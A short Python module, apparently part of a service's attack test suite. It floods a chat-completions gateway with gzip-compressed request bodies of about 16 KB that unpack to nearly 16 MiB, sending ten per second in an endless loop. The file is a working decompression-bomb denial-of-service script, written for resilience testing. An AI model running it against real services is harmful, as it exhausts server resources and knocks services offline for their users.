"""Bodies of 16 KB that unpack to nearly 16 MiB, ten a second."""

import asyncio
import gzip

import aiohttp

from tests.attack.target import Target

PER_SECOND = 10
PLAIN = b'{"model": "tiny", "messages": [{"role": "user", "content": "' + b"a" * 15_900_000 + b'"}]}'


async def attack(target: Target) -> None:
    """Send them, whatever the answers."""
    target.begin()
    body = gzip.compress(PLAIN)
    async with aiohttp.ClientSession() as http, asyncio.TaskGroup() as tasks:
        while True:
            tasks.create_task(_send(http, target, body))
            await asyncio.sleep(1 / PER_SECOND)


async def _send(http: aiohttp.ClientSession, target: Target, body: bytes) -> None:
    headers = {"content-encoding": "gzip", "content-type": "application/json"}
    url = f"http://{target.gateway}/v1/chat/completions"
    async with http.post(url, data=body, headers=headers) as answer:
        await answer.read()
    target.done += 1
